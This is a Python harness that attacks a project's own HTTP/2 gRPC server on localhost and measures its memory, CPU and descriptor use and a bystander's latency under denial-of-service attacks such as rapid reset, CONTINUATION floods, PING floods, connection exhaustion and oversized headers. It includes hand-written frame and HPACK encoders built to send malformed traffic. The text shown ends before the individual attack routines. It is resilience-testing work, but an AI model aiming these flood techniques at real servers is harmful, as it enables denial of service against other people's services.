#!/usr/bin/env python3
"""Attack `jobworker serve` as an authenticated peer would, and measure what each attack costs.

The attacks of issue 13, one per row of its table (and the job-side rows), each speaking raw
HTTP/2 bytes over real TLS 1.3 with a client certificate. The client side uses only the standard
library (`ssl` over a memory BIO, frames and HPACK written by hand here, `hpack` only to read the
server's answers), never the server's own transport, so that the same attack runs unchanged
against the code before and after a rewrite of purgatory.

    1   one HEADERS + CONTINUATION block (the server's largest frames) carrying one Huffman-coded
        value that decodes to 1.6x its size
    2   HEADERS + DATA(END_STREAM) + RST_STREAM of one unary call in one write, many calls
    3   rapid reset (CVE-2023-44487): HEADERS + RST_STREAM, many streams
    4a  PING flood from a client that never reads
    4b  empty-SETTINGS flood from a client that never reads
    5a  connections that finish TLS and never send the HTTP/2 preface
    5b  streams of HEADERS only (the request never comes)
    5c  idle connections (preface and SETTINGS, then nothing)
    5d  connection exhaustion: one client opens connections until the server can take no more
    6a  the 101st stream while 100 calls are open (MAX_CONCURRENT_STREAMS 100)
    6b  150 complete unary calls in one write
    7   header lists of 16,000 to 70,000 bytes (16,384 announced)
    8   a DATA frame header announcing 16 MiB, its body sent but for the last byte
    9   GetJobLogs(follow) streams of a job with output, on connections with window 0
    10  the CONTINUATION flood twice, connections closed: the memory kept after each
    11  a unary call flooded with empty extra messages
    12a an HPACK error;  12b content-type application/grpc+json;  12c invalid UTF-8 in a string
    J1  one identity's jobs up to the global cap, then another identity's StartJob
    J2  Limits(cpu=1e300);  J3  Limits(pids=2**32-1);  J4  `jobworker serve --cpu 1000`

For each attack: what the attacker saw (GOAWAY / RST_STREAM codes, gRPC statuses, or how long
its connections were held); a bystander's latency during the attack (another process, another
identity: one connection calling Health/Check in a loop, and a fresh connection every 0.5 s);
the server's RSS before / peak / after (VmRSS sampled every 25 ms; "after" once its CPU is
idle again), its CPU seconds, its open descriptors at peak, and the tracebacks and bytes it
logged. By default every attack gets a fresh server of its own (`jobworker serve` on a free port
of 127.0.0.1 with a temporary data directory and certificates, at most 1,024 descriptors), so
rows don't disturb each other; everything is stopped and removed at the end.

    .venv/bin/python tools/attack_purgatory.py [--scale small|full] [--only 1,3,5a,J]
        [--server-cmd "CMD" | --server-pythonpath DIR] [--json FILE] [--markdown FILE]
    .venv/bin/python tools/attack_purgatory.py --target HOST:PORT --certs DIR
        [--server-pid PID] [--server-log FILE]

`--server-pythonpath DIR` runs the server from another checkout (a `git worktree`) with this
venv's interpreter; `--server-cmd` replaces the command that runs the jobworker CLI. `--target`
attacks a server already running (certificates as `jobworker certs init DIR --user alice --user
bob` lays them out); without `--server-pid` no RSS or CPU figures, without `--server-log` no log
figures, and rows J4 and the per-row fresh server are skipped.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import math
import os
import re
import resource
import selectors
import shlex
import shutil
import signal
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
os.environ.setdefault("GRPC_VERBOSITY", "NONE")

import hpack  # only to read the server's header blocks
from benchlib import percentile  # tools/benchlib.py

from jobworker._pb.grpc.health.v1 import health_pb2
from jobworker.v1 import jobworker_pb2 as pb

MiB = 2**20
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEALTH_CHECK = "/grpc.health.v1.Health/Check"
SVC = "/jobworker.v1.JobService/"

# Frame types and flags (RFC 9113 §6)
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0, 1, 3, 4, 6, 7
WINDOW_UPDATE, CONTINUATION = 8, 9
END_STREAM = ACK = 0x1
END_HEADERS = 0x4
SETTINGS_INITIAL_WINDOW_SIZE, SETTINGS_MAX_FRAME_SIZE = 0x4, 0x5
ERROR_CODES = [
    "NO_ERROR",
    "PROTOCOL_ERROR",
    "INTERNAL_ERROR",
    "FLOW_CONTROL_ERROR",
    "SETTINGS_TIMEOUT",
    "STREAM_CLOSED",
    "FRAME_SIZE_ERROR",
    "REFUSED_STREAM",
    "CANCEL",
    "COMPRESSION_ERROR",
    "CONNECT_ERROR",
    "ENHANCE_YOUR_CALM",
    "INADEQUATE_SECURITY",
    "HTTP_1_1_REQUIRED",
]
GRPC_CODES = [
    "OK",
    "CANCELLED",
    "UNKNOWN",
    "INVALID_ARGUMENT",
    "DEADLINE_EXCEEDED",
    "NOT_FOUND",
    "ALREADY_EXISTS",
    "PERMISSION_DENIED",
    "RESOURCE_EXHAUSTED",
    "FAILED_PRECONDITION",
    "ABORTED",
    "OUT_OF_RANGE",
    "UNIMPLEMENTED",
    "INTERNAL",
    "UNAVAILABLE",
    "DATA_LOSS",
    "UNAUTHENTICATED",
]


def h2_error(code: int) -> str:
    return ERROR_CODES[code] if 0 <= code < len(ERROR_CODES) else f"0x{code:x}"


def grpc_code(code: int | str) -> str:
    try:
        return GRPC_CODES[int(code)]
    except (ValueError, IndexError):
        return str(code)


def progress(message: str) -> None:
    print(f"[attack] {message}", file=sys.stderr, flush=True)


# =============================================================================================
# HTTP/2 and gRPC bytes, by hand: the attacks need frames no well-behaved library would send.


def frame(
    ftype: int, flags: int, stream_id: int, payload: bytes = b"", *, length: int = -1
) -> bytes:
    """One frame; ``length`` announces another length than the payload's (row 8)."""
    n = len(payload) if length < 0 else length
    return struct.pack(">I", n)[1:] + bytes((ftype, flags)) + struct.pack(">I", stream_id) + payload


def hpack_int(value: int, prefix_bits: int, first: int = 0) -> bytes:
    """RFC 7541 §5.1 integer with an N-bit prefix; ``first`` holds the bits above the prefix."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes((first | value,))
    out, value = bytearray((first | limit,)), value - limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def literal(name: bytes, value: bytes) -> bytes:
    """A literal header field without indexing, new name, no Huffman: the same bytes are valid
    on every stream of a connection (no dynamic table), and the encoded size is the raw size."""
    return b"\x00" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value


def request_headers(
    path: str,
    authority: str,
    extra: Iterable[tuple[bytes, bytes]] = (),
    *,
    content_type: bytes = b"application/grpc",
) -> list[tuple[bytes, bytes]]:
    return [
        (b":method", b"POST"),
        (b":scheme", b"https"),
        (b":path", path.encode()),
        (b":authority", authority.encode()),
        (b"content-type", content_type),
        (b"te", b"trailers"),
        *extra,
    ]


def header_block(headers: Iterable[tuple[bytes, bytes]]) -> bytes:
    return b"".join(literal(n, v) for n, v in headers)


def header_list_size(headers: Iterable[tuple[bytes, bytes]]) -> int:
    """RFC 9113 §6.5.2: names and values plus 32 octets per field."""
    return sum(len(n) + len(v) + 32 for n, v in headers)


def headers_frames(stream_id: int, block: bytes, max_frame: int, *, end_stream: bool) -> bytes:
    """HEADERS then as many CONTINUATION frames as ``max_frame`` requires."""
    chunks = [block[i : i + max_frame] for i in range(0, len(block), max_frame)] or [b""]
    out = []
    for i, chunk in enumerate(chunks):
        flags = END_HEADERS if i == len(chunks) - 1 else 0
        if i == 0:
            out.append(frame(HEADERS, flags | (END_STREAM if end_stream else 0), stream_id, chunk))
        else:
            out.append(frame(CONTINUATION, flags, stream_id, chunk))
    return b"".join(out)


def grpc_message(payload: bytes) -> bytes:
    return b"\x00" + struct.pack(">I", len(payload)) + payload


def unary_call(stream_id: int, block: bytes, message: bytes, max_frame: int = 16384) -> bytes:
    return headers_frames(stream_id, block, max_frame, end_stream=False) + frame(
        DATA, END_STREAM, stream_id, grpc_message(message)
    )


def rst(stream_id: int, code: int = 8) -> bytes:
    return frame(RST_STREAM, 0, stream_id, struct.pack(">I", code))


# =============================================================================================
# A raw HTTP/2 peer over TLS 1.3 (stdlib ssl on a memory BIO, so one thread may read while
# another writes: OpenSSL objects are not safe for that, so each side takes the lock briefly)


@dataclass(frozen=True)
class Target:
    host: str
    port: int
    certs: Path  # as `jobworker certs init` lays it out: ca.crt, <user>/client.{crt,key}

    @property
    def authority(self) -> str:
        return f"{self.host}:{self.port}"

    def context(self, user: str) -> ssl.SSLContext:
        ctx = ssl.create_default_context(ssl.Purpose.SERVER_AUTH, cafile=str(self.certs / "ca.crt"))
        ctx.minimum_version = ssl.TLSVersion.TLSv1_3
        ctx.load_cert_chain(self.certs / user / "client.crt", self.certs / user / "client.key")
        ctx.set_alpn_protocols(["h2"])
        return ctx


class Closed(Exception):
    """The server closed the connection (or reset it)."""


class Stalled(Exception):
    """The server stopped reading: a send did not finish by its deadline."""

    def __init__(self, sent: int) -> None:
        super().__init__(f"stalled after {sent} bytes")
        self.sent = sent


_CONTEXTS: dict[tuple[Target, str], ssl.SSLContext] = {}


class Peer:
    """One connection. ``start_h2`` sends the preface; a reader thread (``start_reader``) or
    ``pump`` parses what the server sends and keeps a summary of it."""

    def __init__(self, target: Target, user: str = "alice", *, timeout_s: float = 10.0) -> None:
        key = (target, user)
        if key not in _CONTEXTS:
            _CONTEXTS[key] = target.context(user)
        self.target = target
        self.sock = socket.create_connection((target.host, target.port), timeout=timeout_s)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.setblocking(False)
        self._in, self._out = ssl.MemoryBIO(), ssl.MemoryBIO()
        self._tls = _CONTEXTS[key].wrap_bio(self._in, self._out, server_hostname=target.host)
        self._tls_lock = threading.Lock()
        self._send_lock = threading.Lock()
        self.changed = threading.Condition()
        self._buffer = bytearray()
        self._decoder = hpack.Decoder(max_header_list_size=2**30)
        self._block: dict[int, bytearray] = {}
        self.opened_at = time.monotonic()
        self.closed_at: float | None = None
        self.close_reason = ""
        self.received_bytes = 0
        self.frames: Counter[str] = Counter()
        self.goaway: tuple[int, int, bytes] | None = None  # (last stream id, code, debug data)
        self.resets: dict[int, int] = {}  # stream id -> RST_STREAM code from the server
        self.statuses: dict[int, tuple[str, str]] = {}  # stream id -> (grpc-status, message)
        self.http_status: dict[int, str] = {}
        self.content_type: dict[int, str] = {}
        self.data_bytes: Counter[int] = Counter()
        self.server_settings: dict[int, int] = {}
        self.settings_seen = threading.Event()
        self._got_settings = False
        self.auto_ack = True
        self.conn_window = 65535
        self.stream_windows: dict[int, int] = {}
        self._reader: threading.Thread | None = None
        self._pending_acks = bytearray()
        self._preface_sent = False
        self._handshake(time.monotonic() + timeout_s)

    # -- TLS --

    def _handshake(self, deadline: float) -> None:
        while True:
            try:
                with self._tls_lock:
                    self._tls.do_handshake()
                self._flush(deadline)
                break
            except ssl.SSLWantReadError:
                self._flush(deadline)
                data = self._recv_raw(deadline)
                if not data:
                    raise Closed("closed during the TLS handshake") from None
                self._in.write(data)
        if self._tls.selected_alpn_protocol() != "h2":
            raise Closed(f"ALPN {self._tls.selected_alpn_protocol()!r}, not h2")

    def _recv_raw(self, deadline: float) -> bytes:
        while True:
            try:
                return self.sock.recv(256 * 1024)
            except (BlockingIOError, ssl.SSLWantReadError):
                remaining = deadline - time.monotonic()
                if remaining <= 0:
                    raise TimeoutError from None
                self._wait(read=True, timeout_s=min(remaining, 1.0))
            except (OSError, ValueError) as exc:  # ECONNRESET, or closed under us
                raise Closed(str(exc)) from None

    def _wait(self, *, read: bool, timeout_s: float) -> None:
        with selectors.DefaultSelector() as sel:
            try:
                sel.register(self.sock, selectors.EVENT_READ if read else selectors.EVENT_WRITE)
            except ValueError:  # closed by another thread
                raise Closed("closed") from None
            sel.select(timeout_s)

    def _flush(self, deadline: float | None) -> int:
        """Write out the ciphertext pending; returns bytes written (raises Stalled/Closed)."""
        data = self._out.read()
        view, sent = memoryview(data), 0
        while sent < len(view):
            try:
                sent += self.sock.send(view[sent:])
            except BlockingIOError:
                remaining = math.inf if deadline is None else deadline - time.monotonic()
                if remaining <= 0:
                    raise Stalled(sent) from None
                self._wait(read=False, timeout_s=min(remaining, 1.0))
            except OSError as exc:
                self._note_closed(f"send: {exc}")
                raise Closed(str(exc)) from None
        return sent

    def send(self, data: bytes, *, timeout_s: float | None = 60.0) -> None:
        """Send plaintext; Stalled if the server has not taken it all within ``timeout_s``."""
        deadline = None if timeout_s is None else time.monotonic() + timeout_s
        with self._send_lock:
            self._send_locked(data, deadline)

    def _send_locked(self, data: bytes, deadline: float | None) -> None:
        with self._tls_lock:
            pending = b""
            if (
                self._preface_sent
            ):  # acknowledgements go after whole frames, never before the preface
                pending, self._pending_acks = bytes(self._pending_acks), bytearray()
            if pending or data:
                self._tls.write(data + pending)
        self._flush(deadline)

    # -- reading --

    def pump(self, timeout_s: float) -> bool:
        """Read and parse what arrives within ``timeout_s``; False once the connection is closed."""
        if self.closed_at is not None:
            return False
        try:
            data = self._recv_raw(time.monotonic() + timeout_s)
        except TimeoutError:
            return True
        except Closed as exc:
            self._note_closed(str(exc))
            return False
        if not data:
            self._note_closed("closed by the server")
            return False
        self.received_bytes += len(data)
        plain = bytearray()
        with self._tls_lock:
            self._in.write(data)
            while True:
                try:
                    chunk = self._tls.read(256 * 1024)
                except (ssl.SSLWantReadError, ssl.SSLZeroReturnError):
                    break
                except ssl.SSLError as exc:
                    self._note_closed(f"TLS: {exc}")
                    return False
                if not chunk:
                    break
                plain += chunk
        self._parse(plain)
        return True

    def start_reader(self) -> Peer:
        def run() -> None:
            while self.pump(1.0):
                pass

        self._reader = threading.Thread(target=run, daemon=True)
        self._reader.start()
        return self

    def _note_closed(self, reason: str) -> None:
        with self.changed:
            if self.closed_at is None:
                self.closed_at = time.monotonic()
                self.close_reason = reason
            self.changed.notify_all()

    def _parse(self, data: bytes) -> None:
        self._buffer += data
        buf, pos, acks = self._buffer, 0, []
        with self.changed:
            while len(buf) - pos >= 9:
                length = int.from_bytes(buf[pos : pos + 3], "big")
                if len(buf) - pos < 9 + length:
                    break
                ftype, flags = buf[pos + 3], buf[pos + 4]
                sid = int.from_bytes(buf[pos + 5 : pos + 9], "big") & 0x7FFFFFFF
                payload = bytes(buf[pos + 9 : pos + 9 + length])
                pos += 9 + length
                acks.extend(self._on_frame(ftype, flags, sid, payload))
            del buf[:pos]
            self.changed.notify_all()
        if acks:
            # Never wait for the send lock here: a sender stalled on a server that waits for us
            # to read would wait for us in turn. The next send carries what we could not send.
            self._pending_acks += b"".join(acks)
            if self._send_lock.acquire(blocking=False):
                try:
                    with contextlib.suppress(Closed, Stalled):
                        self._send_locked(b"", time.monotonic() + 5.0)
                finally:
                    self._send_lock.release()
        if self._got_settings:  # after its ACK is queued: start_h2 may then flush it
            self.settings_seen.set()

    def _on_frame(self, ftype: int, flags: int, sid: int, payload: bytes) -> list[bytes]:
        names = {0: "DATA", 1: "HEADERS", 3: "RST_STREAM", 4: "SETTINGS", 6: "PING", 7: "GOAWAY"}
        names |= {8: "WINDOW_UPDATE", 9: "CONTINUATION"}
        self.frames[names.get(ftype, str(ftype))] += 1
        if ftype == SETTINGS and not flags & ACK:
            for i in range(0, len(payload) - 5, 6):
                ident, value = struct.unpack(">HI", payload[i : i + 6])
                if ident == SETTINGS_INITIAL_WINDOW_SIZE:
                    old = self.server_settings.get(ident, 65535)
                    for s in self.stream_windows:
                        self.stream_windows[s] += value - old
                self.server_settings[ident] = value
            self._got_settings = True
            return [frame(SETTINGS, ACK, 0)] if self.auto_ack else []
        if ftype == GOAWAY and len(payload) >= 8:
            last, code = struct.unpack(">II", payload[:8])
            self.goaway = (last & 0x7FFFFFFF, code, payload[8:200])
        elif ftype == RST_STREAM and len(payload) == 4:
            self.resets[sid] = struct.unpack(">I", payload)[0]
        elif ftype == WINDOW_UPDATE and len(payload) == 4:
            inc = struct.unpack(">I", payload)[0] & 0x7FFFFFFF
            if sid == 0:
                self.conn_window += inc
            else:
                self.stream_windows[sid] = self.stream_windows.get(sid, self.initial_window) + inc
        elif ftype == DATA:
            self.data_bytes[sid] += len(payload)
        elif ftype in (HEADERS, CONTINUATION):
            block = self._block.setdefault(sid, bytearray())
            if ftype == HEADERS:
                pad = payload[0] if flags & 0x8 else 0
                payload = payload[1 if flags & 0x8 else 0 :]
                if flags & 0x20:
                    payload = payload[5:]
                if pad:
                    payload = payload[:-pad]
            block += payload
            if flags & END_HEADERS:
                self._on_headers(sid, bytes(self._block.pop(sid)))
        elif ftype == PING and not flags & ACK and self.auto_ack:
            return [frame(PING, ACK, 0, payload)]
        return []

    def _on_headers(self, sid: int, block: bytes) -> None:
        try:
            fields = self._decoder.decode(block)
        except Exception as exc:  # the server's HPACK: record, keep reading
            self.statuses[sid] = ("?", f"undecodable headers: {exc}")
            return
        found = dict(fields)
        if ":status" in found:
            self.http_status[sid] = found[":status"]
        if "content-type" in found:
            self.content_type[sid] = found["content-type"]
        if "grpc-status" in found:
            self.statuses[sid] = (found["grpc-status"], found.get("grpc-message", ""))

    # -- HTTP/2 --

    @property
    def initial_window(self) -> int:
        return self.server_settings.get(SETTINGS_INITIAL_WINDOW_SIZE, 65535)

    @property
    def max_frame(self) -> int:
        return self.server_settings.get(SETTINGS_MAX_FRAME_SIZE, 16384)

    def start_h2(self, settings: dict[int, int] | None = None, *, timeout_s: float = 10.0) -> Peer:
        """Preface and SETTINGS; wait for the server's SETTINGS (acknowledged by the parser)."""
        self.send_preface(settings)
        deadline = time.monotonic() + timeout_s
        while not self.settings_seen.is_set() and time.monotonic() < deadline:
            if self._reader is not None:
                self.settings_seen.wait(0.1)
            elif not self.pump(0.2):
                break
        with contextlib.suppress(Closed, Stalled):
            self.send(b"", timeout_s=5)  # our ACK goes out now, before any frame of the attack
        return self

    def send_preface(self, settings: dict[int, int] | None = None) -> None:
        body = b"".join(struct.pack(">HI", k, v) for k, v in (settings or {}).items())
        with self._send_lock:
            self._preface_sent = True
            self._send_locked(PREFACE + frame(SETTINGS, 0, 0, body), time.monotonic() + 10)

    def reserve(self, n: int, sid: int, timeout_s: float) -> bool:
        """Wait until both windows allow ``n`` bytes of DATA on ``sid``, then take them."""
        deadline = time.monotonic() + timeout_s
        with self.changed:
            while True:
                stream = self.stream_windows.setdefault(sid, self.initial_window)
                if self.conn_window >= n and stream >= n:
                    self.conn_window -= n
                    self.stream_windows[sid] = stream - n
                    return True
                remaining = deadline - time.monotonic()
                if remaining <= 0 or self.closed_at is not None:
                    return False
                self.changed.wait(remaining)

    def wait_for(self, condition: Callable[[], bool], timeout_s: float) -> bool:
        deadline = time.monotonic() + timeout_s
        with self.changed:
            while not condition():
                remaining = deadline - time.monotonic()
                if remaining <= 0:
                    return False
                self.changed.wait(min(remaining, 0.5))
            return True

    def closed(self) -> bool:
        return self.closed_at is not None

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.close()
        self._note_closed(self.close_reason or "closed by us")
        if self._reader is not None:
            self._reader.join(timeout=5)

    # -- what the attacker saw --

    def saw(self) -> str:
        parts = []
        if self.goaway is not None:
            _, code, debug = self.goaway
            text = debug.decode("utf-8", "replace").strip()
            parts.append(f"GOAWAY {h2_error(code)}" + (f' "{text[:60]}"' if text else ""))
        if self.resets:
            counts = Counter(h2_error(c) for c in self.resets.values())
            parts.append("RST " + ", ".join(f"{k} x{v}" for k, v in counts.most_common()))
        if self.statuses:
            counts = Counter(grpc_code(s) for s, _ in self.statuses.values())
            parts.append("status " + ", ".join(f"{k} x{v}" for k, v in counts.most_common()))
        if self.closed_at is not None and self.close_reason != "closed by us":
            parts.append(
                f"closed ({self.close_reason}) after {self.closed_at - self.opened_at:.1f} s"
            )
        if not parts:
            parts.append("nothing")
        return "; ".join(parts)


def summarize(peers: Iterable[Peer]) -> str:
    """What a group of connections saw, merged: GOAWAY codes, RST codes, statuses, closes."""
    goaway, resets, statuses, closed, total = Counter(), Counter(), Counter(), 0, 0
    for p in peers:
        total += 1
        if p.goaway is not None:
            goaway[h2_error(p.goaway[1])] += 1
        resets.update(h2_error(c) for c in p.resets.values())
        statuses.update(grpc_code(s) for s, _ in p.statuses.values())
        closed += p.closed()
    parts = []
    if goaway:
        parts.append("GOAWAY " + ", ".join(f"{k} x{v}" for k, v in goaway.most_common()))
    if resets:
        parts.append("RST " + ", ".join(f"{k} x{v}" for k, v in resets.most_common()))
    if statuses:
        parts.append("status " + ", ".join(f"{k} x{v}" for k, v in statuses.most_common()))
    parts.append(f"{closed}/{total} conns closed by server")
    return "; ".join(parts)


def connect_many(
    target: Target,
    n: int,
    *,
    user: str = "alice",
    h2: bool = True,
    timeout_s: float = 5.0,
    stop_after_failures: int = 20,
) -> tuple[list[Peer], list[str]]:
    peers, failures = [], []
    for _ in range(n):
        try:
            p = Peer(target, user, timeout_s=timeout_s)
            if h2:
                p.send_preface()
            peers.append(p)
        except (OSError, Closed, TimeoutError, Stalled) as exc:
            failures.append(type(exc).__name__ + (f": {exc}" if str(exc) else ""))
            if len(failures) >= stop_after_failures:
                break
    return peers, failures


def hold(peers: list[Peer], seconds: float) -> None:
    """Keep reading every connection for ``seconds`` (noting when the server closes each)."""
    deadline = time.monotonic() + seconds
    with selectors.DefaultSelector() as sel:
        for p in peers:
            if not p.closed():
                sel.register(p.sock, selectors.EVENT_READ, p)
        while sel.get_map() and (remaining := deadline - time.monotonic()) > 0:
            for key, _ in sel.select(min(remaining, 0.5)):
                if not key.data.pump(0):
                    sel.unregister(key.fileobj)


def held_summary(peers: list[Peer], hold_s: float) -> str:
    closed = sorted(p.closed_at - p.opened_at for p in peers if p.closed_at is not None)
    if not peers:
        return "no connection"
    if not closed:
        return f"all {len(peers)} held open {hold_s:.0f} s"
    return (
        f"{len(closed)}/{len(peers)} closed by server (after {closed[0]:.1f}-{closed[-1]:.1f} s), "
        f"{len(peers) - len(closed)} held open {hold_s:.0f} s"
    )


# =============================================================================================
# The server: started here (fresh per attack) or given; measured through /proc


def proc_rss_kib(pid: int) -> tuple[int, int]:
    rss = hwm = 0
    with open(f"/proc/{pid}/status", encoding="ascii") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                rss = int(line.split()[1])
            elif line.startswith("VmHWM:"):
                hwm = int(line.split()[1])
    return rss, hwm


def proc_cpu_s(pid: int) -> float:
    with open(f"/proc/{pid}/stat", encoding="ascii") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def proc_fds(pid: int) -> int:
    try:
        return len(os.listdir(f"/proc/{pid}/fd"))
    except OSError:
        return -1


LISTENING = re.compile(r"listening on (\S+):(\d+)")


class Server:
    """A `jobworker serve` of our own (``cmd`` runs the jobworker CLI) or one given (pid/log)."""

    def __init__(
        self,
        *,
        cmd: list[str] | None,
        env: dict[str, str],
        workdir: Path | None,
        target: Target | None = None,
        pid: int | None = None,
        log: Path | None = None,
        nofile: int = 1024,
    ) -> None:
        self.cmd, self.env, self.workdir, self.nofile = cmd, env, workdir, nofile
        self.target, self.pid, self.log = target, pid, log
        self.proc: subprocess.Popen[bytes] | None = None
        self._runs = 0
        self.cgroup_names: set[str] = set()  # our servers' own (others may run on this host)

    def _note_cgroups(self) -> None:
        with contextlib.suppress(OSError):
            text = Path(f"/proc/{self.proc.pid}/cgroup").read_text()
            self.cgroup_names |= set(re.findall(r"jobworker-[0-9a-f]{8}", text))

    @property
    def own(self) -> bool:
        return self.cmd is not None

    def start(self, extra: list[str] = ()) -> tuple[bool, str]:
        """Start a fresh server; (True, "") once it listens, else (False, what it said)."""
        assert self.cmd is not None and self.workdir is not None
        self._runs += 1
        data = self.workdir / f"data-{self._runs}"
        self.log = self.workdir / f"server-{self._runs}.log"
        certs = self.workdir / "certs"
        args = [
            *self.cmd,
            "serve",
            "--listen",
            "127.0.0.1:0",
            "--cert",
            str(certs / "server.crt"),
            "--key",
            str(certs / "server.key"),
            "--ca",
            str(certs / "ca.crt"),
            "--data-dir",
            str(data),
            *extra,
        ]
        nofile = self.nofile

        def limit() -> None:
            if nofile:
                resource.setrlimit(resource.RLIMIT_NOFILE, (nofile, nofile))

        with open(self.log, "wb") as err:
            self.proc = subprocess.Popen(
                args,
                stdout=subprocess.PIPE,
                stderr=err,
                env=self.env,
                preexec_fn=limit,
                start_new_session=True,
                cwd=self.workdir,
            )
        assert self.proc.stdout is not None
        line = self.proc.stdout.readline().decode(errors="replace")
        match = LISTENING.search(line)
        if not match:
            self.proc.wait(timeout=30)
            said = (line + self.log.read_text(errors="replace")).strip().splitlines()
            self.proc = None
            return False, " / ".join(said[-2:])[:300]
        self.pid = self.proc.pid
        self._note_cgroups()
        self.target = Target(match.group(1), int(match.group(2)), certs)
        return True, ""

    def stop(self) -> int | None:
        if self.proc is None:
            return None
        self._note_cgroups()
        proc, self.proc = self.proc, None
        proc.send_signal(signal.SIGTERM)
        try:
            code = proc.wait(timeout=60)
        except subprocess.TimeoutExpired:
            os.killpg(proc.pid, signal.SIGKILL)
            code = proc.wait()
        if proc.stdout is not None:
            proc.stdout.close()
        return code

    def alive(self) -> bool:
        if self.proc is not None:
            return self.proc.poll() is None
        return self.pid is None or os.path.exists(f"/proc/{self.pid}")

    def log_size(self) -> int:
        return self.log.stat().st_size if self.log and self.log.exists() else 0

    def log_slice(self, start: int) -> bytes:
        if not self.log or not self.log.exists():
            return b""
        with open(self.log, "rb") as f:
            f.seek(start)
            return f.read()

    def wait_idle(self, *, max_s: float = 20.0, busy_below: float = 0.05) -> None:
        """Wait until the server uses under ``busy_below`` of a CPU over 0.5 s (or ``max_s``)."""
        if not self.pid or not self.alive():
            return
        deadline = time.monotonic() + max_s
        while time.monotonic() < deadline and self.alive():
            before = proc_cpu_s(self.pid)
            time.sleep(0.5)
            if not self.alive() or proc_cpu_s(self.pid) - before < 0.5 * busy_below:
                return


class Sampler:
    """Samples the server's VmRSS and descriptors while an attack runs."""

    def __init__(self, pid: int | None) -> None:
        self.pid, self.peak_rss_kib, self.peak_fds = pid, 0, 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        n = 0
        while not self._stop.is_set() and self.pid:
            try:
                self.peak_rss_kib = max(self.peak_rss_kib, proc_rss_kib(self.pid)[0])
                if n % 10 == 0:
                    self.peak_fds = max(self.peak_fds, proc_fds(self.pid))
            except OSError:
                return
            n += 1
            self._stop.wait(0.025)

    def __enter__(self) -> Sampler:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join()


# =============================================================================================
# The bystander: another process (so the attacker's Python never delays it), another identity,
# calling Health/Check over grpcio: on one connection in a loop, and on a fresh one every 0.5 s.


def bystander_main(host: str, port: int, certs: Path) -> None:
    import grpc

    creds = grpc.ssl_channel_credentials(
        (certs / "ca.crt").read_bytes(),
        (certs / "bob" / "client.key").read_bytes(),
        (certs / "bob" / "client.crt").read_bytes(),
    )
    target = f"{host}:{port}"
    request = health_pb2.HealthCheckRequest().SerializeToString()
    lock = threading.Lock()
    in_flight: dict[str, float] = {}

    def emit(kind: str, t0: float, ok: bool, code: str) -> None:
        line = json.dumps(
            {"k": kind, "t0": t0, "dt": time.monotonic() - t0, "ok": ok, "code": code}
        )
        with lock:
            sys.stdout.write(line + "\n")
            sys.stdout.flush()

    def call(channel: Any, kind: str, timeout_s: float) -> None:
        check = channel.unary_unary(
            HEALTH_CHECK, request_serializer=None, response_deserializer=None
        )
        t0 = in_flight[kind] = time.monotonic()
        try:
            check(request, timeout=timeout_s, wait_for_ready=False)
            emit(kind, t0, True, "OK")
        except grpc.RpcError as exc:
            emit(kind, t0, False, exc.code().name)
        finally:
            in_flight.pop(kind, None)

    def persistent() -> None:
        channel = grpc.secure_channel(target, creds)
        while True:
            call(channel, "persistent", 30.0)
            time.sleep(0.02)

    def fresh() -> None:
        while True:
            t = time.monotonic()
            with grpc.secure_channel(
                target, creds, options=[("grpc.use_local_subchannel_pool", 1)]
            ) as ch:
                call(ch, "fresh", 10.0)
            time.sleep(max(0.0, 0.5 - (time.monotonic() - t)))

    for fn in (persistent, fresh):
        threading.Thread(target=fn, daemon=True).start()
    sys.stdin.read()  # until the harness closes our stdin
    now = time.monotonic()
    with lock:
        for kind, t0 in list(in_flight.items()):
            sys.stdout.write(
                json.dumps(
                    {"k": kind, "t0": t0, "dt": now - t0, "ok": False, "code": "still waiting"}
                )
                + "\n"
            )
        sys.stdout.flush()
    os._exit(0)


class Bystander:
    def __init__(self, target: Target) -> None:
        self.proc = subprocess.Popen(
            [
                sys.executable,
                __file__,
                "--bystander",
                target.host,
                str(target.port),
                str(target.certs),
            ],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            text=True,
        )
        self.calls: list[dict[str, Any]] = []
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()

    def _read(self) -> None:
        assert self.proc.stdout is not None
        for line in self.proc.stdout:
            with contextlib.suppress(ValueError):
                self.calls.append(json.loads(line))

    def warm(self, timeout_s: float = 15.0) -> bool:
        deadline = time.monotonic() + timeout_s
        while time.monotonic() < deadline:
            if any(c["ok"] and c["k"] == "persistent" for c in self.calls):
                return True
            time.sleep(0.05)
        return False

    def stop(self) -> None:
        assert self.proc.stdin is not None
        self.proc.stdin.close()
        try:
            self.proc.wait(timeout=10)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait()
        self._reader.join(timeout=5)
        assert self.proc.stdout is not None
        self.proc.stdout.close()

    def figures(self, start: float, end: float) -> dict[str, dict[str, Any]]:
        out = {}
        for kind in ("persistent", "fresh"):
            calls = [c for c in self.calls if c["k"] == kind and start <= c["t0"] <= end]
            ok = [c["dt"] * 1e3 for c in calls if c["ok"]]
            every = [c["dt"] * 1e3 for c in calls]
            errors = Counter(c["code"] for c in calls if not c["ok"])
            out[kind] = {
                "calls": len(calls),
                "p50_ms": round(percentile(ok, 50), 1) if ok else None,
                "p99_ms": round(percentile(ok, 99), 1) if ok else None,
                "max_ms": round(max(every), 1) if every else None,
                "errors": dict(errors),
            }
        return out


